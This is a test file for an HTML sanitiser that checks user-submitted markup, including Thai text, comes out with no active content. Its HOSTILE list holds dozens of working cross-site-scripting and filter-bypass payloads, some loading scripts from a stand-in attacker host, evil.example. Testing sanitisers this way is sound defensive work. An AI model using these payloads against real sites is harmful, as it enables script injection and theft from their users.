"""What people hand in as HTML: the words and the allowed marks stay; nothing of it can act on a reader."""

from html.parser import HTMLParser

import pytest

from home.cleaning import TAGS, clean_html, plain_text

# One or two of each kind of attack, in our own words.
HOSTILE = (
    # scripts, whole and broken
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<script/type=module>import('//evil.example')</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\n'alert(1)' >",
    "<p onclick=alert(1) OnMouseOver='alert(2)'>ก</p>",
    '<a href="https://example.org" onfocus=alert(1) autofocus>ก</a>',
    '"><b onpointerenter="alert(1)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<h3 onanimationstart=alert(1) style='animation-name:x'>ก</h3>",
    "<li/onclick=alert(1)//<",
    # addresses that run
    '<a href="javascript:alert(1)">ก</a>',
    '<a href=" jAvAsCrIpT:alert(1)">ก</a>',
    '<a href="java\tscr\nipt:alert(1)">ก</a>',
    '<a href="java&#x09;script:alert(1)">ก</a>',
    '<a href="&#106;avascript&colon;alert(1)">ก</a>',
    '<a href="\x01javascript:alert(1)">ก</a>',
    '<a href="\u2028javascript:alert(1)">ก</a>',
    '<a href="java\x07script:alert(1)">ก</a>',
    '<a href="vbscript:msgbox(1)">ก</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">ก</a>',
    '<a href="view-source:https://example.org">ก</a>',
    '<a href="//evil.example/">ก</a>',
    '<a href="/accounts/logout/">ก</a>',
    '<a href="#main" id="main" name="main">ก</a>',
    '<a xlink:href="javascript:alert(1)">ก</a>',
    '<blockquote cite="javascript:alert(1)">ก</blockquote>',
    # frames, forms, objects
    "<iframe src='javascript:alert(1)'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    "<object data='data:text/html,x'></object><embed src=x>",
    '<form action="//evil.example"><button formaction="javascript:alert(1)">ส่ง</button></form>',
    "<input autofocus onfocus=alert(1)>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    # styles
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">ก</p>',
    '<p style="position:fixed;inset:0" class="btn" id="x">ก</p>',
    # other languages inside HTML, where parsers disagree
    "<svg onload=alert(1)><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><p onclick=alert(1)>ก",
    # text that ends what holds it
    "</textarea><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><script>alert(1)</script>",
    '<p title="`><img src=x onerror=alert(1)>`">ก</p>',
)


class Markup(HTMLParser):
    """Everything in a piece of HTML that our list does not allow."""

    def __init__(self, html):
        super().__init__()
        self.foreign = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.foreign.append(tag)
        for name, value in attrs:
            allowed = name == "href" and value.startswith(("http://", "https://", "mailto:"))
            if tag != "a" or not (allowed or name == "rel"):
                self.foreign.append(f"{tag} {name}={value}")

    def handle_comment(self, data):
        self.foreign.append("comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_acts_comes_through(hostile):
    cleaned = clean_html(f"<p>ก่อน</p>{hostile}<p>หลัง</p>")
    assert not Markup(cleaned).foreign
    assert clean_html(cleaned) == cleaned
    assert not Markup(plain_text(hostile)).foreign and "<" not in plain_text(hostile)


def test_scripts_go_with_their_content_and_other_marks_leave_their_words():
    assert clean_html("<p>ก<script>alert(1)</script>ข</p>") == "<p>กข</p>"
    assert clean_html("<style>p{}</style><div><span class=x>น้ำ</span> <font>ใจ</font></div>") == "น้ำ ใจ"


def test_what_a_text_needs_stays_as_it_was():
    text = (
        "<h3>โจทย์</h3><p>ก <strong>เข้ม</strong> <em>เอน</em><br>ข</p><ul><li>หนึ่ง</li></ul><blockquote>คำ</blockquote>"
    )
    assert clean_html(text) == text


@pytest.mark.parametrize("address", ["https://example.org/a?b=1&amp;c=2", "http://example.org", "mailto:a@example.org"])
def test_links_stay_and_do_not_tell_where_from(address):
    assert clean_html(f'<a href="{address}" target=_blank>ก</a>') == (
        f'<a href="{address}" rel="noopener noreferrer nofollow">ก</a>'
    )


def test_letters_that_look_like_marks_stay_letters():
    assert clean_html("3 < 5 & 7 > 2") == "3 &lt; 5 &amp; 7 &gt; 2"
    assert clean_html("&lt;script&gt;") == "&lt;script&gt;"


def test_thai_comes_through_letter_for_letter():
    words = "<p>ที่ปิ่นน้ำ กํา ำ \u200bญู ๆ ฯลฯ ๑๒๓</p>"
    assert clean_html(words) == words and plain_text(words) == words[3:-4]


def test_nothing_is_nothing():
    assert clean_html("") == "" and plain_text("<p> </p>") == ""


def test_deep_and_long_input_is_borne():
    assert clean_html("<b>" * 2000 + "ก").startswith("<b><b>")
    assert clean_html("<" * 20_000) == "&lt;" * 20_000
